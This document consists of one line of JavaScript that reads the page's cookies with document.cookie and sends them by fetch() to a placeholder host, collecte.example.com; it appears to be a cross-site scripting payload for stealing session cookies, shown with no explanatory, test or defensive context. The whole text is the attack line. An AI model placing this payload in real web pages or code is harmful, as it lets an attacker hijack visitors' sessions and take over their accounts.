fetch("https://collecte.example.com/?c=" + document.cookie)
